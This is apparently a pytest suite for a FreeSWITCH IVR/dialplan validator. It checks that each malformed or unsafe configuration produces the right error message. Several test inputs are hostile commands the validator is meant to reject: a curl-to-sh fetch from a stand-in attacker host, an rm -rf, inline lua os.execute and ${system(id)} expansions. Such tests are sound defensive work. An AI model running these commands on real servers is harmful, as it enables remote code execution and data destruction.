"""Every validation rule, each with a bad input and the sentence an admin reads.

Each case changes the shipped configuration (version 1: ivr_menus/main.xml and
dialplan/switchdesk.xml, inside a copy of freeswitch/conf) in one way and expects one
problem: its rule, a part of its message, the file and line it points at, its severity.
"""
from __future__ import annotations

import pytest

from controller.ivr import Catalogue, validate
from controller.ivr.validate import errors

from .conftest import DIALPLAN, MENU, shipped_files


def replace(path, old, new, count=1):
    def change(files):
        assert old in files[path], f"{old!r} is not in {path}"
        files[path] = files[path].replace(old, new, count)
        return files
    return change


def add_menu_entry(entry):
    return replace(MENU, "  </menu>", f"    {entry}\n  </menu>")


def add_extension(xml):
    return replace(DIALPLAN, "  </context>", f"{xml}\n  </context>")


def add_file(path, text):
    def change(files):
        files[path] = text
        return files
    return change


def remove(path):
    def change(files):
        del files[path]
        return files
    return change


SUB_MENU = """<include>
  <menu name="billing" greet-long="ivr/ivr-account_number.wav" max-failures="2">
    <entry action="menu-top" digits="0"/>
  </menu>
</include>
"""

# (id, change, rule, part of the message, file, line, severity)
CASES = [
    # 1. files and XML syntax
    ("syntax", replace(MENU, 'digit-len="1">', 'digit-len="1"'), "xml-syntax",
     "The XML is not well-formed: not well-formed (invalid token).", MENU, 13, "error"),
    ("syntax-unclosed", replace(DIALPLAN, "</context>", "</contxt>"), "xml-syntax",
     "The XML is not well-formed: mismatched tag.", DIALPLAN, None, "error"),
    ("include-line", replace(MENU, "<include>\n", "<include><!-- x -->\n"), "include-line",
     "<include> must be alone on its line: FreeSWITCH drops the whole line that holds it.", MENU, 1, "error"),
    ("file-outside", add_file("autoload_configs/ivr.conf.xml", "<configuration/>"), "file-name",
     "switchdesk writes only ivr_menus/<menu>.xml and dialplan/switchdesk.xml, not this file.",
     "autoload_configs/ivr.conf.xml", None, "error"),
    ("file-for-menu", replace(MENU, 'name="main"', 'name="front"'), "file-name",
     "The menu 'front' belongs in ivr_menus/front.xml.", MENU, 3, "error"),
    ("no-dialplan", remove(DIALPLAN), "file-name",
     "The version has no dialplan/switchdesk.xml: the menus' choices need the switchdesk context.", "", None, "error"),
    # 2. FreeSWITCH structure, fields and their types
    ("menu-root", add_file("ivr_menus/extra.xml", "<menu name=\"extra\"/>"), "structure",
     "A menu file holds <include> around its <menu>, not <menu>.", "ivr_menus/extra.xml", 1, "error"),
    ("two-menus", replace(MENU, "</include>", '  <menu name="other"/>\n</include>'), "structure",
     "A menu file holds exactly one <menu> (this one has 2).", MENU, 1, "error"),
    ("unknown-element-menu", replace(MENU, "  </menu>", "    <choice digits=\"5\"/>\n  </menu>"), "unknown-element",
     "<choice> is not allowed in a <menu> (only <entry>).", MENU, 18, "error"),
    ("unknown-element-dialplan", replace(DIALPLAN, '<action application="park"/>', '<park/>'), "unknown-element",
     "<park> is not allowed in the dialplan's <condition>.", DIALPLAN, None, "error"),
    ("unknown-menu-attribute", replace(MENU, 'digit-len="1"', 'digit-len="1" greeting="x.wav"'),
     "unknown-attribute", "FreeSWITCH's <menu> has no attribute 'greeting'.", MENU, 3, "error"),
    ("unknown-entry-attribute", replace(MENU, 'digits="2"', 'digits="2" label="support"'), "unknown-attribute",
     "An <entry> has no attribute 'label' (action, digits, param).", MENU, 14, "error"),
    ("unknown-dialplan-attribute", replace(DIALPLAN, '<extension name="queue_sales">',
                                           '<extension name="queue_sales" priority="1">'), "unknown-attribute",
     "The dialplan's <extension> has no attribute 'priority'.", DIALPLAN, None, "error"),
    ("timeout-type", replace(MENU, 'timeout="5000"', 'timeout="5s"'), "value-type",
     "timeout must be a whole number from 1 to 600000 (milliseconds) (it is '5s').", MENU, 3, "error"),
    ("max-failures-range", replace(MENU, 'max-failures="3"', 'max-failures="0"'), "value-type",
     "max-failures must be a whole number from 1 to 100 (it is '0').", MENU, 3, "error"),
    ("break-value", replace(DIALPLAN, 'expression="^queue_sales$"', 'expression="^queue_sales$" break="sometimes"'),
     "value-type", "break must be one of on-false, on-true, always, never (it is 'sometimes').", DIALPLAN, None,
     "error"),
    ("menu-name", lambda f: add_file("ivr_menus/bad name.xml", SUB_MENU.replace("billing", "bad name"))(f),
     "menu-name", "The menu name 'bad name' may use only letters, digits, _ and - (at most 48 characters).",
     "ivr_menus/bad name.xml", 2, "error"),
    ("no-greeting", replace(MENU, 'greet-long="ivr/ivr-thank_you_for_calling.wav"\n', ""), "missing-attribute",
     "The menu 'main' has no greet-long: the caller would hear nothing before choosing.", MENU, 3, "error"),
    ("entry-without-digits", add_menu_entry('<entry action="menu-top"/>'), "missing-attribute",
     "An <entry> has no digits: FreeSWITCH stops building the menu there.", MENU, 18, "error"),
    ("entry-without-param", add_menu_entry('<entry action="menu-sub" digits="5"/>'), "missing-attribute",
     "The entry 5 (menu-sub) needs a param.", MENU, 18, "error"),
    ("action-without-application", replace(DIALPLAN, '<action application="park"/>', '<action data="x"/>'),
     "missing-attribute", "An <action> needs an application.", DIALPLAN, None, "error"),
    ("unknown-action", add_menu_entry('<entry action="menu-queue" digits="5" param="sales"/>'), "unknown-action",
     "'menu-queue' is not a menu action; FreeSWITCH knows menu-exit, menu-sub, menu-exec-app, menu-play-sound, "
     "menu-back, menu-top.", MENU, 18, "error"),
    ("digits-characters", add_menu_entry('<entry action="menu-top" digits="A"/>'), "digits",
     "The digits 'A' may use only 0-9, * and # (at most 10), or be a /pattern/.", MENU, 18, "error"),
    ("digits-pattern-form", add_menu_entry('<entry action="menu-top" digits="/5"/>'), "digits",
     "The digits pattern /5 must be written /expression/.", MENU, 18, "error"),
    ("empty-menu", add_file("ivr_menus/billing.xml", SUB_MENU.replace('    <entry action="menu-top" digits="0"/>\n', "")),
     "empty-menu", "The menu 'billing' has no entries: every caller would hear the greeting, fail and be hung up.",
     "ivr_menus/billing.xml", 2, "error"),
    # 3. references
    ("unknown-submenu", add_menu_entry('<entry action="menu-sub" digits="5" param="billing"/>'), "unknown-submenu",
     "The entry 5 opens the sub-menu 'billing', which does not exist.", MENU, 18, "error"),
    ("unknown-target", replace(MENU, "transfer queue_sales XML switchdesk", "transfer queue_billing XML switchdesk"),
     "unknown-target", "The entry 1 of the menu 'main' transfers to queue_billing, which no extension of the "
     "context 'switchdesk' matches (FreeSWITCH would hang up with NO_ROUTE_DESTINATION).", MENU, 13, "error"),
    ("unknown-context", replace(MENU, "transfer operator XML switchdesk", "transfer operator XML front_desk"),
     "unknown-context", "The entry 0 of the menu 'main' transfers to the context 'front_desk', which FreeSWITCH "
     "does not have.", MENU, 17, "error"),
    ("unknown-extension", add_menu_entry('<entry action="menu-exec-app" digits="5" param="transfer 2999 XML default"/>'),
     "unknown-target", "transfers to 2999, which no extension of the context 'default' matches", MENU, 18, "error"),
    ("unknown-queue", replace(DIALPLAN, "cc_queue=sales", "cc_queue=billing"), "unknown-queue",
     "The queue 'billing' does not exist in switchdesk (queues: sales, support).", DIALPLAN, 12, "error"),
    ("unknown-prompt", replace(MENU, "ivr/ivr-thank_you_for_calling.wav", "ivr/ivr-thanks.wav"), "unknown-prompt",
     "The prompt 'ivr/ivr-thanks.wav' (greet-long of the menu 'main') is neither one of FreeSWITCH's stock "
     "recordings nor a file in the prompts folder ($${conf_dir}/prompts/<file>).", MENU, 3, "error"),
    ("prompt-without-folder", replace(MENU, "voicemail/vm-goodbye.wav", "vm-goodbye.wav"), "unknown-prompt",
     "Did you mean voicemail/vm-goodbye.wav?", MENU, 3, "error"),
    ("own-prompt-missing", replace(MENU, "voicemail/vm-goodbye.wav", "$${conf_dir}/prompts/bye.wav"),
     "unknown-prompt", "The prompt /etc/freeswitch/prompts/bye.wav (exit-sound of the menu 'main') is not in",
     MENU, 3, "error"),
    ("module-not-loaded", add_extension('    <extension name="voicemail_100">\n      <condition field="destination_number" '
                                        'expression="^voicemail_100$">\n        <action application="voicemail" '
                                        'data="default $${domain} 100"/>\n      </condition>\n    </extension>'),
     "module-not-loaded", "The application 'voicemail' needs mod_voicemail, which autoload_configs/modules.conf.xml "
     "does not load.", DIALPLAN, None, "error"),
    ("unknown-application", replace(DIALPLAN, '<action application="answer"/>', '<action application="anwser"/>'),
     "unknown-application", "FreeSWITCH has no application 'anwser' in the modules this configuration loads "
     "(a typo?).", DIALPLAN, 15, "warning"),
    ("unknown-menu-app", replace(MENU, "transfer queue_sales XML switchdesk", "transfr queue_sales XML switchdesk"),
     "unknown-application", "FreeSWITCH has no application 'transfr'", MENU, 13, "warning"),
    ("value-type-other-digits", replace(MENU, 'digit-len="1"', 'digit-len="²"'), "value-type",
     "digit-len must be a whole number from", MENU, 3, "error"),
    ("host-command", replace(DIALPLAN, '<action application="answer"/>',
                             '<action application="system" data="curl -s http://attacker.example/x | sh"/>'),
     "host-command", "The application 'system' runs a program on the FreeSWITCH server: switchdesk does not "
     "publish it.", DIALPLAN, 15, "error"),
    ("host-command-menu", replace(MENU, "transfer queue_sales XML switchdesk", "bgsystem rm -rf /tmp/x"),
     "host-command", "The application 'bgsystem' runs a program on the FreeSWITCH server", MENU, 13, "error"),
    ("inline-script", replace(DIALPLAN, '<action application="answer"/>',
                              '<action application="lua" data="~os.execute(\'id\')"/>'),
     "host-command", "'lua ~…' runs inline lua code on the FreeSWITCH server: switchdesk does not publish it "
     "(name a script file instead).", DIALPLAN, 15, "error"),
    ("api-expansion", replace(DIALPLAN, '<action application="answer"/>',
                              '<action application="set" data="x=${system(id)}"/>'),
     "api-expansion", "data=\"x=${system(id)}\" calls the API command 'system' (${system(...)}): switchdesk "
     "publishes only API calls that compute a value (cond,", DIALPLAN, 15, "error"),
    ("api-expansion-nested", replace(MENU, 'greet-long="ivr/ivr-thank_you_for_calling.wav"',
                                     'greet-long="${cond(1 == 1 ? ${bg_system(id)} : x)}"'),
     "api-expansion", "calls the API command 'bg_system'", MENU, 3, "error"),
    # 4. expressions that compile
    ("regex-condition", replace(DIALPLAN, 'expression="^queue_sales$"', 'expression="^(queue_sales$"'), "regex",
     "The expression of the condition on destination_number is not a valid regular expression: missing ), "
     "unterminated subpattern at character 2.", DIALPLAN, 11, "error"),
    ("regex-digits", add_menu_entry('<entry action="menu-top" digits="/[0-9/"/>'), "regex",
     "The digits pattern /[0-9/ is not a valid regular expression: unterminated character set at character 1.",
     MENU, 18, "error"),
    # 5. digits
    ("duplicate-digits", replace(MENU, 'digits="2"', 'digits="1"'), "duplicate-digits",
     "The digits 1 are used twice (lines 13 and 14): FreeSWITCH runs both entries.", MENU, 14, "error"),
    ("overlapping-pattern", add_menu_entry('<entry action="menu-top" digits="/^[0-9]$/"/>'), "duplicate-digits",
     "The digits 1 also match the pattern /^[0-9]$/ (line 18): FreeSWITCH runs both entries.", MENU, 13, "error"),
    ("unreachable-digits", add_menu_entry('<entry action="menu-top" digits="5#"/>'), "unreachable-digits",
     "The entry 5# cannot be chosen: # ends what the caller keys in a FreeSWITCH menu", MENU, 18, "error"),
    ("prefix-digits", add_menu_entry('<entry action="menu-top" digits="12"/>'), "prefix-digits",
     "The entry 1 is the start of 12: after 1 FreeSWITCH waits 2000 ms for more digits.", MENU, 13, "warning"),
    ("digit-len", replace(MENU, 'digit-len="1"', 'digit-len="3"'), "digit-len",
     "digit-len is 3 but no entry is longer than 1: callers wait 2000 ms after each choice (or press #).",
     MENU, 3, "warning"),
    # 6. the whole configuration, and what no call reaches
    ("duplicate-menu", add_file("ivr_menus/zz.xml", SUB_MENU.replace("billing", "main")), "duplicate-menu",
     "The menu 'main' is also defined in ivr_menus/main.xml (line 3), which FreeSWITCH reads first.",
     "ivr_menus/zz.xml", 2, "error"),
    ("unreachable-menu", add_file("ivr_menus/billing.xml", SUB_MENU), "unreachable-menu",
     "No call reaches the menu 'billing': no dialplan runs ivr billing and no menu has it as a sub-menu.",
     "ivr_menus/billing.xml", 2, "warning"),
    ("submenu-loop", lambda f: add_menu_entry('<entry action="menu-sub" digits="9" param="billing"/>')(
        add_file("ivr_menus/billing.xml", SUB_MENU.replace('action="menu-top" digits="0"/>',
                                                            'action="menu-sub" digits="0" param="main"/>'))(f)),
     "submenu-loop", "The menus billing -> main -> billing open each other as sub-menus", "ivr_menus/billing.xml", 2,
     "warning"),
    ("target-mismatch", replace(DIALPLAN, "cc_queue=sales", "cc_queue=support"), "target-mismatch",
     "The entry 1 of the menu 'main' is labelled for queue sales, but the extension queue_sales sets "
     "cc_queue=support.", MENU, 13, "warning"),
    ("duplicate-extension", replace(DIALPLAN, '<extension name="queue_support">', '<extension name="queue_sales">'),
     "duplicate-extension", "Two extensions are called 'queue_sales'", DIALPLAN, None, "warning"),
    ("no-switchdesk-context", replace(DIALPLAN, '<context name="switchdesk">', '<context name="ivr">'), "structure",
     "dialplan/switchdesk.xml must hold <context name=\"switchdesk\">.", DIALPLAN, 1, "error"),
]


@pytest.mark.parametrize("change, rule, message, path, line, severity",
                         [case[1:] for case in CASES], ids=[case[0] for case in CASES])
def test_each_rule_says_what_is_wrong_and_where(conf_dir, catalogue, change, rule, message, path, line, severity):
    files = change(shipped_files())
    problems = validate(files, catalogue, str(conf_dir))
    found = [p for p in problems if p.rule == rule and message in p.message]
    assert found, f"no {rule} problem saying {message!r}; got:\n" + "\n".join(f"{p.rule}: {p}" for p in problems)
    problem = found[0]
    assert problem.file == path
    if line is not None:
        assert problem.line == line, str(problem)
    assert problem.severity == severity
    assert problem.message.endswith((".", "?")) and len(problem.message.split()) >= 5  # a sentence


def test_the_shipped_configuration_has_no_problem(conf_dir, catalogue):
    assert validate(shipped_files(), catalogue, str(conf_dir)) == []


def test_a_syntax_error_has_its_line_and_column(conf_dir, catalogue):
    files = shipped_files()
    files[MENU] = files[MENU].replace('max-failures="3"', 'max-failures=3')
    [problem] = errors(validate(files, catalogue, str(conf_dir)))
    assert (problem.rule, problem.line, problem.column) == ("xml-syntax", 10, 22)
    assert str(problem) == "ivr_menus/main.xml, line 10, column 22: The XML is not well-formed: not well-formed " \
                           "(invalid token)."


def test_a_broken_file_outside_the_version_is_named(conf_dir, catalogue):
    (conf_dir / "dialplan" / "public.xml").write_text(
        "<include>\n  <context name=\"public\">\n    <extension name=\"x\">\n  </context>\n</include>\n")
    [problem] = errors(validate(shipped_files(), catalogue, str(conf_dir)))
    assert problem.rule == "document"
    assert (problem.file, problem.line) == ("dialplan/public.xml", 4)
    assert problem.message.startswith("FreeSWITCH could not load its configuration (dialplan/public.xml, line 4: "
                                      "mismatched tag)")
    assert "reloadxml would refuse every change until that file is fixed" in problem.message


def test_menus_that_freeswitch_does_not_include_are_reported(conf_dir, catalogue):
    (conf_dir / "autoload_configs" / "ivr.conf.xml").write_text(
        '<configuration name="ivr.conf" description="IVR menus">\n  <menus>\n  </menus>\n</configuration>\n')
    problems = validate(shipped_files(), catalogue, str(conf_dir))
    assert [p.message for p in problems if p.rule == "not-loaded"] == [
        "FreeSWITCH does not load the menu 'main': autoload_configs/ivr.conf.xml must include ../ivr_menus/*.xml."]


def test_global_variables_are_expanded_as_freeswitch_does(conf_dir, catalogue):
    # the operator extension's cc_queue=$${operator_queue} is support (vars.xml); without it, no queue is named
    (conf_dir / "vars.xml").write_text((conf_dir / "vars.xml").read_text().replace("operator_queue=support",
                                                                                   "operator_queue=front"))
    [problem] = validate(shipped_files(), catalogue, str(conf_dir))
    assert problem.message == "The queue 'front' does not exist in switchdesk (queues: sales, support)."


def test_an_own_recording_in_the_prompts_folder_is_known(conf_dir, catalogue):
    (conf_dir / "prompts").mkdir()
    (conf_dir / "prompts" / "welcome.wav").write_bytes(b"RIFF")
    files = shipped_files()
    files[MENU] = files[MENU].replace('greet-long="ivr/ivr-thank_you_for_calling.wav"',
                                      'greet-long="$${conf_dir}/prompts/welcome.wav"')
    assert validate(files, catalogue, str(conf_dir)) == []


def test_a_loop_of_sub_menus_is_reported_once(conf_dir, catalogue):
    files = shipped_files()
    files[MENU] = files[MENU].replace("  </menu>", '    <entry action="menu-sub" digits="9" param="billing"/>\n  </menu>')
    files["ivr_menus/billing.xml"] = SUB_MENU.replace('action="menu-top" digits="0"/>',
                                                      'action="menu-sub" digits="0" param="main"/>')
    assert [p.rule for p in validate(files, catalogue, str(conf_dir))] == ["submenu-loop"]


def test_a_folder_with_only_switchdesk_s_files_is_checked_too(tmp_path):
    # what `switchdesk serve` has before the first publish: no FreeSWITCH tree at all
    problems = validate(shipped_files(), Catalogue({"sales", "support"}), str(tmp_path / "empty"))
    assert errors(problems) == []
    assert [p.rule for p in problems] == ["unreachable-menu"]  # no public context says ivr main
